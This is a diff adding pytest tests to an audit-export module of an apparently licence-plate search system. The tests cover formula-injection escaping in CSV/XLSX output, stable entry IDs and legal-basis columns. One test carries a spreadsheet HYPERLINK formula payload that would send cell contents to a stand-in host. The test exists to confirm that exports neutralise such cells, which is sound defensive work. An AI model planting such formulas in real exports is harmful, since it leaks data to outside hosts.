@@ -7,12 +7,19 @@ from __future__ import annotations
 import csv
 import io
 import json
+import uuid
 from datetime import datetime, timedelta
 
 import pytest
 
 from plateledger.access import AuditUnavailable, NotPermitted
-from plateledger.access.audit_export import COLUMNS, AuditExporter, to_csv, to_ndjson
+from plateledger.access.audit_export import (
+    COLUMNS,
+    LEAF_NAMESPACE,
+    AuditExporter,
+    to_csv,
+    to_ndjson,
+)
 from plateledger.access.audit_reads import AuditReader
 from plateledger.access.searches import SearchCreate, SearchParams, search
 from plateledger.audit.redaction import View, served
@@ -152,3 +159,59 @@ def test_csv_and_ndjson_carry_every_column(
     assert tuple(parsed[0]) == COLUMNS and parsed == rows
     lines = [json.loads(line) for line in to_ndjson(rows).splitlines()]
     assert lines == rows
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_no_cell_of_csv_or_xlsx_starts_a_formula(start: str) -> None:
+    from openpyxl import load_workbook  # type: ignore[import-untyped]
+
+    from plateledger.access.audit_export import to_xlsx
+
+    hostile = f"{start}HYPERLINK(\"http://x.example/?\"&A1,\"open\")"
+    row = {column: hostile for column in COLUMNS}
+    [parsed] = list(csv.DictReader(io.StringIO(to_csv([row]))))
+    assert all(value == "'" + hostile for value in parsed.values())
+    sheet = load_workbook(io.BytesIO(to_xlsx([row]))).active
+    cells = next(iter(sheet.iter_rows(min_row=2)))
+    stored = {"'" + hostile, "'" + hostile.replace("\r", "\n")}  # XML reads CR as LF
+    assert all(cell.data_type == "s" and cell.value in stored for cell in cells)
+    safe = {column: "7ABC123" for column in COLUMNS}
+    assert list(csv.DictReader(io.StringIO(to_csv([safe])))) == [safe]
+
+
+def test_an_entry_without_a_search_id_gets_a_stable_id_from_its_leaf(
+    office: Office, exporter: AuditExporter, now: datetime  # noqa: F811
+) -> None:
+    from plateledger.audit.entry import new_entry
+
+    old = office.audit_log.append(new_entry(
+        "search", user="ivy", agency="ucpd", requested_by_agency="ucpd", purpose=PURPOSE,
+        kind="exact", query={"plate": PLATE}, owners_allowed=["ucpd"], owners_denied=[],
+        result_count=0, returned=0, result_digest="0" * 64))
+    audrey = office.user(office.ucpd, "audrey", "auditor")
+    [first] = exporter.rows(audrey, old, old + 1)
+    [again] = exporter.rows(audrey, old, old + 1)
+    leaf = office.audit_log.entry(old).leaf_hash.hex()
+    assert first["ID"] == again["ID"] == str(uuid.uuid5(LEAF_NAMESPACE, leaf))
+    assert first["Time Frame Start"] == "unbounded"
+    assert first["Time Frame End"] == first["Search Time (UTC)"]
+
+
+def test_the_legal_basis_of_a_pattern_of_life_search_is_its_column(
+    office: Office, exporter: AuditExporter, now: datetime  # noqa: F811
+) -> None:
+    from plateledger.access.legal_basis import LegalBasis
+
+    basis = LegalBasis(kind="court_order", number="CO-2026-77", court="Alameda Superior Court")
+    ivy = office.user(office.ucpd, "ivy", "investigator")
+    question = office.gate.question(
+        ivy, action="search_locate", purpose=PURPOSE, case_number=CASE, reason=REASON,
+        requested_by=None, lookback_days=30, now=now)
+    decision = office.gate.decide(question)
+    facts: dict[str, object] = dict(basis.audit_facts())
+    index = office.gate.record(question, decision, "search", kind="locate",
+                               query={"plate": PLATE}, owners_allowed=["ucpd"],
+                               owners_denied=[], **facts)
+    [row] = exporter.rows(office.user(office.ucpd, "audrey", "auditor"), index, index + 1)
+    assert row["Legal Basis"] == "court order CO-2026-77 (Alameda Superior Court)"
+    assert row["Search Type"] == "locate"
